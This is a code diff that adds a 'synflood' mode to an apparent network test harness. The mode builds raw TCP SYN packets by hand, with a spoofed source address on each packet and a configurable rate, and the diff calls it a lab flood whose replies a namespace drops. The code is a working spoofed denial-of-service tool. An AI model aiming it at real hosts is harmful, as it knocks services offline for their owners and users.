@@ -16,6 +16,7 @@ import random
 import re
 import select
 import socket
+import struct
 import sys
 import threading
 import time
@@ -362,6 +363,65 @@ def run_ooo(args):
         emit(event="result", **res)
 
 
+# ---- SYN flood from spoofed sources --------------------------------------------------------------
+
+def _csum(data):
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while s >> 16:
+        s = (s & 0xffff) + (s >> 16)
+    return ~s & 0xffff
+
+
+def run_synflood(args):
+    """Send --count SYNs to --dst:--dport, each from its own address of --src-net (an IPv4 /16
+    or an IPv6 /64 the server routes back through the client namespace, which drops the
+    SYN-ACKs: nobody answers them, as in a spoofed flood). Built by hand for speed: a python
+    loop sends some 30,000 a second where scapy sends some 2,000."""
+    v6 = ":" in args.dst
+    fam = socket.AF_INET6 if v6 else socket.AF_INET
+    out = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    out.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+    dst = socket.inet_pton(fam, args.dst)
+    net = socket.inet_pton(fam, args.src_net)
+    t0 = time.monotonic()
+    sent = 0
+    for i in range(args.count):
+        n = i + 1
+        if v6:
+            src = net[:8] + struct.pack("!Q", n)
+        else:
+            src = net[:2] + struct.pack("!H", n % 65534 + 1)
+        sport = 1024 + (i * 7) % 60000
+        tcp = struct.pack("!HHIIBBHHH", sport, args.dport, (i * 2654435761) & 0xffffffff, 0,
+                          5 << 4, 0x02, 65535, 0, 0)
+        if v6:
+            pseudo = src + dst + struct.pack("!IxxxB", len(tcp), socket.IPPROTO_TCP)
+        else:
+            pseudo = src + dst + struct.pack("!xBH", socket.IPPROTO_TCP, len(tcp))
+        tcp = tcp[:16] + struct.pack("!H", _csum(pseudo + tcp)) + tcp[18:]
+        if v6:
+            ip = struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + src + dst
+        else:
+            ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64,
+                             socket.IPPROTO_TCP, 0) + src + dst
+        while True:
+            try:
+                out.sendto(ip + tcp, (args.dst, 0))
+                break
+            except (BlockingIOError, OSError) as e:
+                if getattr(e, "errno", None) not in (errno.ENOBUFS, errno.EAGAIN):
+                    raise
+                time.sleep(0.001)
+        sent += 1
+        if args.rate and sent % 16 == 0:
+            ahead = sent / args.rate - (time.monotonic() - t0)
+            if ahead > 0:
+                time.sleep(ahead)
+    emit(event="result", sent=sent, secs=round(time.monotonic() - t0, 3))
+
+
 # ---- malformed packets (scapy) ------------------------------------------------------------------
 
 def run_malformed(args):
@@ -487,6 +547,12 @@ def main():
                    help="after this pause, resend every segment in order")
     p.add_argument("--linger", type=float, default=0.5)
     p.add_argument("--timeout", type=float, default=3.0)
+    p = sub.add_parser("synflood")
+    p.add_argument("--dst", required=True)
+    p.add_argument("--dport", type=int, required=True)
+    p.add_argument("--src-net", required=True)
+    p.add_argument("--count", type=int, required=True)
+    p.add_argument("--rate", type=float, default=0.0, help="SYNs per second at most (0: flat out)")
     p = sub.add_parser("malformed")
     p.add_argument("--src", required=True)
     p.add_argument("--dst", required=True)
@@ -504,6 +570,7 @@ def main():
         "udp-client": run_udp_client,
         "ooo": run_ooo,
         "malformed": run_malformed,
+        "synflood": run_synflood,
         "http-get": run_http_get,
     }[args.mode](args)
 
